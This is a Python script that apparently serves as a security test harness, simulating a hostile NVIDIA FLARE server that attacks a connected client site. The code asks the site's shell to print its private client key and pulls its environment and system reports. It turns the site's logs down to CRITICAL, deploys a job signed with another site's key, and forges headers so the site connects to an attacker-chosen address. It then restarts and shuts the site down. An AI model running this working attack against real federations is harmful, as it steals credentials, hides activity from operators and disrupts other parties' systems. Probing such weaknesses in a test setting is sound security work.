"""FLARE's server as its owner could change it: `python hostile_engine.py SERVER_KIT SITE ACCOMPLICE_KIT FILE`.

Asks a site's own process for what no run needs, and writes into the file what it says.
"""

import io
import json
import os
import runpy
import shutil
import socket
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.lighter.utils import load_private_key_file, sign_folders
from nvflare.private.admin_defs import Message
from nvflare.private.fed.server import fed_server

from fedbilevel.federation import processes
from fedbilevel.federation.guarded_engine import guard

JOB = "ba5ce263-3c9c-47d7-af15-e1f9afbfb2fa"


def asked(cell, site, topic, body="", **headers):
    """What the site says, or why nothing came back."""
    message = Message(topic, body)
    message.set_headers({"job_id": JOB, **headers})
    request = new_cell_message({}, message)
    reply = cell.send_request(channel="admin", topic="admin", target=site, request=request, timeout=5.0)
    said = getattr(reply.payload, "body", None)
    return f"error: {reply.get_header('cn__return_code')}" if said is None else str(said)


def signed_by(kit):
    """A job as a site receives it, signed by another site."""
    with tempfile.TemporaryDirectory() as temporary:
        app = Path(temporary) / "app"
        (app / "config").mkdir(parents=True)
        (app / "config" / "config_fed_client.json").write_text("{}")
        startup = kit / "startup"
        sign_folders(str(app), load_private_key_file(str(startup / "client.key")), str(startup / "client.crt"))
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for file in app.rglob("*"):
                archive.write(file, file.relative_to(app))
        return packed.getvalue()


def dialled(cell, site):
    """Whether the site connects to where a message says that its sender listens."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(4)
        message = new_cell_message({})
        route = {"origin": "server.x", "destination": site, "from": "server", "to": site}
        kind = {"channel": "admin", "topic": "admin", "msg_type": "req", "req_id": "1", "reply_expected": False}
        url = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
        message.add_headers({f"cn__{key}": value for key, value in {**route, **kind, "conn_url": url}.items()})
        cell.core_cell._send_to_endpoint(cell.core_cell.agents[site].endpoint, message)
        try:
            listener.accept()[0].close()
        except TimeoutError:
            return "no"
        return "yes"


def attack(server, site, accomplice, out):
    """Everything, one after the other; what ends the site's process comes last."""
    while site not in server.cell.core_cell.agents or "running_jobs" not in asked(server.cell, site, "train.check_status"):
        time.sleep(0.5)
    key = out.parent / site / "startup" / "client.key"
    requests = {
        "shell": ("sys.shell", f"cat {key}"),
        "machine": ("sys.info", ""),
        "environment": ("sys.report_env", ""),
        "resources": ("resource_manager.report_resources", ""),
        "site log": ("sys.configure_site_log", "CRITICAL"),
        "job log": ("train.configure_job_log", "CRITICAL"),
        "statistics": ("info.show_stats", ""),
        "component": ("comp_caller.call", ""),
        "task": ("train.abort_task", ""),
    }
    said = {name: asked(server.cell, site, *request) for name, request in requests.items()}
    meta = {"job_id": JOB, "submitter_name": "x", "submitter_org": "x", "submitter_role": "project_admin"}
    said["job"] = asked(server.cell, site, "train.deploy", signed_by(accomplice), job_meta=meta, app_name="app")
    said["dial"] = dialled(server.cell, site)
    for name in ("restart", "shutdown"):
        said[name] = asked(server.cell, site, f"train.{name}")
    out.with_suffix(".new").write_text(json.dumps(said))
    shutil.move(out.with_suffix(".new"), out)


def main(kit, site, accomplice, out):
    """Start the server with its kit."""
    guard()
    register = fed_server.FederatedServer._register_cellnet_cbs

    def register_and_attack(self):
        register(self)
        threading.Thread(target=attack, args=(self, site, Path(accomplice), Path(out)), daemon=True).start()

    fed_server.FederatedServer._register_cellnet_cbs = register_and_attack
    kit = Path(kit)
    (kit / "transfer").mkdir(exist_ok=True)
    processes.keep_storage_inside(kit)
    os.chdir(kit)
    options = ["secure_train=true", "org=fedbilevel", "config_folder=config"]
    sys.argv = ["server", "-m", str(kit), "-s", "fed_server.json", "--set", *options]
    runpy.run_module(processes.PROGRAMS["server"], run_name="__main__", alter_sys=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
